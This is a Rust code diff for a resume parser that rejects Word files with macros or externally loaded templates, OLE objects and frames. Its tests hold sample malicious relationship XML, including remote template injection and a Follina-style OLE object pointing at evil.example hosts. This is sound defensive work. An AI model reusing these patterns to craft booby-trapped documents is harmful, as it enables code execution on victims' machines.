@@ -1,6 +1,7 @@
 //! Word (.docx) resumes: the paragraphs of `word/document.xml`, after refusing files that
-//! carry macros, ActiveX controls, embedded objects or a template fetched from elsewhere
-//! (a `.docm` renamed `.docx` holds its macros in `word/vbaProject.bin`).
+//! carry macros, ActiveX controls, embedded objects, or a template, object or frame
+//! fetched from elsewhere (a `.docm` renamed `.docx` holds its macros in
+//! `word/vbaProject.bin`).
 
 use std::io::Read;
 
@@ -10,6 +11,8 @@ use super::{ActiveContent, ExtractError, MAX_TEXT_BYTES};
 const MAX_DOCX_XML_BYTES: u64 = 32 * 1024 * 1024;
 /// Most bytes read of the small parts that declare content types and relationships.
 const MAX_PART_BYTES: u64 = 1024 * 1024;
+/// Most relationship parts a document may have.
+const MAX_RELATIONSHIP_PARTS: usize = 256;
 
 type Archive<'a> = zip::ZipArchive<std::io::Cursor<&'a [u8]>>;
 
@@ -37,10 +40,11 @@ pub(super) fn text(bytes: &[u8]) -> Result<String, ExtractError> {
     xml_text(&xml)
 }
 
-/// The first kind of active content the package holds, judged by its part names and
-/// the two small parts that declare macro-enabled content and external templates.
+/// The first kind of active content the package holds, judged by its part names, its
+/// declared content types and every relationship part (`*.rels`).
 fn active_content(archive: &mut Archive<'_>) -> Result<Option<ActiveContent>, ExtractError> {
-    for name in archive.file_names() {
+    let names: Vec<String> = archive.file_names().map(str::to_owned).collect();
+    for name in &names {
         let name = name.to_ascii_lowercase();
         let file = name.rsplit('/').next().unwrap_or_default();
         if file == "vbaproject.bin" || file == "vbadata.xml" {
@@ -58,14 +62,66 @@ fn active_content(archive: &mut Archive<'_>) -> Result<Option<ActiveContent>, Ex
     if part(archive, "[Content_Types].xml")?.is_some_and(|xml| contains(&xml, b"macroEnabled")) {
         return Ok(Some(ActiveContent::Macros));
     }
-    // A template attached by an external link is fetched, with its macros, when the
-    // document opens ("remote template injection").
-    if part(archive, "word/_rels/settings.xml.rels")?.is_some_and(|xml| {
-        contains(&xml, b"attachedTemplate") && contains(&xml, b"TargetMode=\"External\"")
-    }) {
-        return Ok(Some(ActiveContent::RemoteTemplate));
+    let relationships: Vec<&String> = names
+        .iter()
+        .filter(|n| n.to_ascii_lowercase().ends_with(".rels"))
+        .collect();
+    // A document has a handful; thousands would only make us inflate for nothing.
+    if relationships.len() > MAX_RELATIONSHIP_PARTS {
+        return Err(ExtractError::Unreadable);
+    }
+    for name in relationships {
+        if let Some(xml) = part(archive, name)?
+            && let Some(found) = active_relationship(&xml)?
+        {
+            return Ok(Some(found));
+        }
     }
     Ok(None)
+}
+
+/// What a relationship part points at that runs or loads code: a VBA project under any
+/// name, or an external template, OLE object, frame or sub-document, which Word fetches
+/// when the document opens (remote template injection, the "Follina" family). External
+/// hyperlinks and images are ordinary.
+fn active_relationship(xml: &[u8]) -> Result<Option<ActiveContent>, ExtractError> {
+    use quick_xml::events::Event;
+    let mut reader = quick_xml::Reader::from_reader(xml);
+    let mut buffer = Vec::new();
+    loop {
+        let event = reader
+            .read_event_into(&mut buffer)
+            .map_err(|_| ExtractError::Unreadable)?;
+        match event {
+            Event::Start(e) | Event::Empty(e) if e.local_name().as_ref() == b"Relationship" => {
+                let mut kind = String::new();
+                let mut external = false;
+                for attribute in e.attributes().flatten() {
+                    let value = attribute
+                        .unescape_value()
+                        .map_err(|_| ExtractError::Unreadable)?;
+                    match attribute.key.local_name().as_ref() {
+                        b"Type" => kind = value.rsplit('/').next().unwrap_or_default().to_owned(),
+                        b"TargetMode" => external = value.eq_ignore_ascii_case("External"),
+                        _ => {}
+                    }
+                }
+                match kind.as_str() {
+                    "vbaProject" => return Ok(Some(ActiveContent::Macros)),
+                    "attachedTemplate" if external => {
+                        return Ok(Some(ActiveContent::RemoteTemplate));
+                    }
+                    "oleObject" | "frame" | "subDocument" if external => {
+                        return Ok(Some(ActiveContent::EmbeddedObject));
+                    }
+                    _ => {}
+                }
+            }
+            Event::Eof => return Ok(None),
+            _ => {}
+        }
+        buffer.clear();
+    }
 }
 
 /// A small part's bytes, if the package has it.
@@ -224,6 +280,30 @@ mod tests {
             )),
             Some(ActiveContent::RemoteTemplate)
         );
+        // Single quotes and any relationship part.
+        assert_eq!(
+            refused(&with(
+                "word/_rels/settings.xml.rels",
+                br#"<Relationships><Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/></Relationships>"#
+            )),
+            Some(ActiveContent::RemoteTemplate)
+        );
+        // An OLE object loaded from an address (the "Follina" document).
+        assert_eq!(
+            refused(&with(
+                "word/_rels/document.xml.rels",
+                br#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId996" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="https://evil.example/x.html!" TargetMode="External"/></Relationships>"#
+            )),
+            Some(ActiveContent::EmbeddedObject)
+        );
+        // A VBA project renamed, found by its relationship.
+        assert_eq!(
+            refused(&with(
+                "word/_rels/document.xml.rels",
+                br#"<Relationships><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="innocent.png"/></Relationships>"#
+            )),
+            Some(ActiveContent::Macros)
+        );
     }
 
     #[test]
@@ -239,6 +319,10 @@ mod tests {
             (
                 "word/_rels/settings.xml.rels",
                 br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="Normal.dotm"/></Relationships>"#,
+            ),
+            (
+                "word/_rels/document.xml.rels",
+                br#"<Relationships><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/portfolio" TargetMode="External"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/></Relationships>"#,
             ),
         ];
         assert_eq!(
